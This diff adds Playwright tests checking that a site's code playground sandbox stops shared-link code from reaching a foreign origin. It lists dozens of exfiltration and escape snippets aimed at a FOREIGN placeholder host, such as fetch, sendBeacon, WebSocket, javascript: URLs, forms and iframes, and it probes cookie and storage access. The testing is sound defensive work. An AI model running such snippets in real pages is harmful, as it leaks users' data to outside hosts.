@@ -1,0 +1,200 @@
+import { createSocket } from 'node:dgram';
+import { readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page, Request } from '@playwright/test';
+import { outFolder } from '../scripts/server/siteEnvironment.mjs';
+import { encodeText } from '../theme/address/sharedText.ts';
+import { listenForeign, serveBare } from './support/listeners.ts';
+import { test as base, expect } from './support/test.ts';
+
+interface Servers {
+  /** The built site, served without its headers. */
+  bare: Awaited<ReturnType<typeof serveBare>>;
+  foreign: Awaited<ReturnType<typeof listenForeign>>;
+}
+
+/** The built site without headers and a foreign server, for each test. */
+const test = base.extend<Servers>({
+  // Each test here tries what the policy forbids, and none but the tests' own assertions know which origin is foreign.
+  quiet: undefined,
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's needs from this pattern.
+  bare: async ({}, use) => {
+    const server = await serveBare(outFolder);
+    await use(server);
+    await server.close();
+  },
+  // biome-ignore lint/correctness/noEmptyPattern: as above
+  foreign: async ({}, use) => {
+    const server = await listenForeign();
+    await use(server);
+    await server.close();
+  },
+});
+
+/** Ways out that leave the frame's document; `FOREIGN` is the foreign origin. */
+const navigations = {
+  location: "location = 'FOREIGN/a'",
+  'the location of a data URL': 'location = \'data:text/html,<img src="FOREIGN/a">\'',
+  'the location of a blob':
+    "location = URL.createObjectURL(new Blob(['<img src=\"FOREIGN/a\">'], { type: 'text/html' }))",
+  'a script in the location': 'location = \'javascript:fetch("FOREIGN/a")\'',
+  'the location of the page': "top.location = 'FOREIGN/a'",
+  'a link': "add('a', { href: 'FOREIGN/a', onclick: (event) => event.stopPropagation() }).click()",
+  'a link to a new tab':
+    "add('a', { href: 'FOREIGN/a', target: '_blank', onclick: (event) => event.stopPropagation() }).click()",
+  'a download':
+    "add('a', { href: 'FOREIGN/a', download: 'a', onclick: (event) => event.stopPropagation() }).click()",
+  'a new window': "open('FOREIGN/a')",
+  'a refresh': "add('meta', { httpEquiv: 'refresh', content: '0;url=FOREIGN/a' })",
+  'a document of its own':
+    'document.open(); document.write(\'<meta http-equiv="refresh" content="0;url=FOREIGN/a"><img src="FOREIGN/b">\'); document.close()',
+  'a form': "add('form', { action: 'FOREIGN/a' }).submit()",
+};
+
+/** Ways out that do not. */
+const requests = {
+  fetch: "fetch('FOREIGN/a', { mode: 'no-cors', keepalive: true })",
+  XMLHttpRequest: "const it = new XMLHttpRequest(); it.open('GET', 'FOREIGN/a'); it.send()",
+  WebSocket: "new WebSocket('FOREIGN/a'.replace('http', 'ws'))",
+  EventSource: "new EventSource('FOREIGN/a')",
+  sendBeacon: "navigator.sendBeacon('FOREIGN/a', 'b')",
+  RTCPeerConnection:
+    "const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); it.createDataChannel('a'); it.createOffer().then((offer) => it.setLocalDescription(offer))",
+  'the ping of a link': "add('a', { href: '#a', ping: 'FOREIGN/a' }).click()",
+  'an image': "new Image().src = 'FOREIGN/a'",
+  'an image of a style': "document.body.style.background = 'url(FOREIGN/a)'",
+  'a style sheet': "add('link', { rel: 'stylesheet', href: 'FOREIGN/a' })",
+  'an imported style sheet and a font':
+    "add('style', { textContent: '@import \"FOREIGN/a\"; @font-face { font-family: b; src: url(FOREIGN/b) } main { font-family: b }' })",
+  prefetch: "add('link', { rel: 'prefetch', href: 'FOREIGN/a' })",
+  preload: "add('link', { rel: 'preload', as: 'image', href: 'FOREIGN/a' })",
+  modulepreload: "add('link', { rel: 'modulepreload', href: 'FOREIGN/a' })",
+  'early connections':
+    "add('link', { rel: 'preconnect', href: 'FOREIGN' }); add('link', { rel: 'dns-prefetch', href: 'FOREIGN' })",
+  'speculation rules':
+    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['FOREIGN/a'] }] }) })",
+  'a script': "add('script', { src: 'FOREIGN/a' })",
+  'an inline script': "add('script', { textContent: 'new Image().src = \"FOREIGN/a\"' })",
+  import: "import('FOREIGN/a')",
+  'an evaluated import': 'new Function(\'return import("FOREIGN/a")\')()',
+  'a worker': 'new Worker(URL.createObjectURL(new Blob([\'fetch("FOREIGN/a")\'])))',
+  'a frame': "add('iframe', { src: 'FOREIGN/a' })",
+  'a frame with a text of its own':
+    'add(\'iframe\', { srcdoc: \'<img src="FOREIGN/a"><script>fetch("FOREIGN/b")</script>\' })',
+  'an object': "add('object', { data: 'FOREIGN/a' })",
+  'a video': "add('video', { src: 'FOREIGN/a', poster: 'FOREIGN/b' })",
+  'a report of a policy':
+    "add('meta', { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri FOREIGN/a\" }); new Image().src = '/a.png'",
+};
+
+/** Opens a shared link whose text runs a piece of code, and waits until the code has run. */
+async function openShared(page: Page, origin: string, code: string) {
+  const text = `export const add = (name, parts) => document.body.appendChild(Object.assign(document.createElement(name), parts));
+
+export const act = () => { ${code} };
+
+tried {act()}`;
+  await page.goto(`${origin}/plugin/official-plugins/playground#mdx=${encodeText(text)}`);
+  // The result, or a word about what became of it.
+  await expect(
+    page
+      .locator('.playground__frame:not([data-waiting]), .playground__problem:not(:empty)')
+      .first(),
+  ).toBeAttached();
+  // Nothing tells when nothing more happens.
+  await page.waitForTimeout(500);
+}
+
+/** The foreign requests of a page and its frames that the browser did not stop. */
+function watchForeign(page: Page, origin: string): () => string[] {
+  const seen: Request[] = [];
+  page.context().on('request', (request) => {
+    if (request.url().startsWith(origin)) seen.push(request);
+  });
+  const isStopped = (reason: string | undefined) => reason === 'csp' || reason === 'origin';
+  return () => seen.filter((it) => !isStopped(it.failure()?.errorText)).map((it) => it.url());
+}
+
+const hosts = {
+  'with headers': { ...navigations, RTCPeerConnection: requests.RTCPeerConnection },
+  'without headers': { ...navigations, ...requests },
+};
+
+for (const [host, ways] of Object.entries(hosts)) {
+  test.describe(`on a host ${host}, nothing gets out of a shared link by`, () => {
+    for (const [way, code] of Object.entries(ways)) {
+      test(way, async ({ page, baseURL, bare, foreign }) => {
+        const sent = watchForeign(page, foreign.origin);
+        const written = code
+          .replaceAll('FOREIGN', foreign.origin)
+          .replaceAll('UDP', String(foreign.udpPort));
+        const origin = (host === 'with headers' && baseURL) || bare.origin;
+        await openShared(page, origin, written);
+        expect(sent()).toEqual([]);
+        expect(foreign.reached).toEqual([]);
+        expect(page.context().pages()).toHaveLength(1);
+        expect(new URL(page.url()).origin).toBe(origin);
+      });
+    }
+  });
+}
+
+test('the foreign server notes what reaches it', async ({ page, foreign }) => {
+  const sent = watchForeign(page, foreign.origin);
+  await page.goto(`${foreign.origin}/a`);
+  expect(sent()).toEqual([`${foreign.origin}/a`]);
+  const socket = createSocket('udp4');
+  socket.send('a', foreign.udpPort, '127.0.0.1', () => socket.close());
+  await expect
+    .poll(() => foreign.reached.filter((it) => !/favicon/.test(it)))
+    .toEqual(['GET /a', 'packet']);
+});
+
+test('cookies, storage and the page are out of reach', async ({ page, bare }) => {
+  const text = `export const of = (act) => { try { act(); return 'reached'; } catch (error) { return error.name; } };
+
+{[
+  () => document.cookie, () => localStorage.length, () => sessionStorage.length,
+  () => indexedDB.open('a'), () => parent.document.title, () => top.location.href,
+].map(of).join(' ')}`;
+  await page.goto(`${bare.origin}/plugin/official-plugins/playground#mdx=${encodeText(text)}`);
+  const body = page.frameLocator('iframe[title="Result"]').locator('main');
+  await expect(body).toHaveText(Array(6).fill('SecurityError').join(' '));
+});
+
+const [frameFolder = ''] = readdirSync(join(outFolder, 'static')).filter((it) =>
+  it.startsWith('playground-'),
+);
+
+for (const [attributes, shown] of [
+  ['', 0],
+  ['sandbox="allow-scripts allow-same-origin"', 0],
+  // So that the two above are known to mean something.
+  ['sandbox="allow-scripts"', 1],
+] as const) {
+  test(`a foreign page that frames the document with “${attributes}” gets ${shown} results`, async ({
+    page,
+    bare,
+    foreign,
+  }) => {
+    await page.goto(`${foreign.origin}/framing`);
+    const address = `${bare.origin}/static/${frameFolder}/frame.html`;
+    const messages = await page.evaluate(
+      async ([html, order]) => {
+        let count = 0;
+        window.addEventListener('message', () => {
+          count += 1;
+        });
+        document.body.innerHTML = html ?? '';
+        const frame = document.querySelector('iframe');
+        await new Promise((resolve) => frame?.addEventListener('load', resolve));
+        frame?.contentWindow?.postMessage({ source: order, dark: false, lang: 'en' }, '*');
+        await new Promise((resolve) => setTimeout(resolve, 1000));
+        return count;
+      },
+      [`<iframe src="${address}" ${attributes}></iframe>`, '**ran**'],
+    );
+    await expect(page.frameLocator('iframe').locator('strong')).toHaveCount(shown);
+    expect(messages > 0).toBe(shown > 0);
+  });
+}
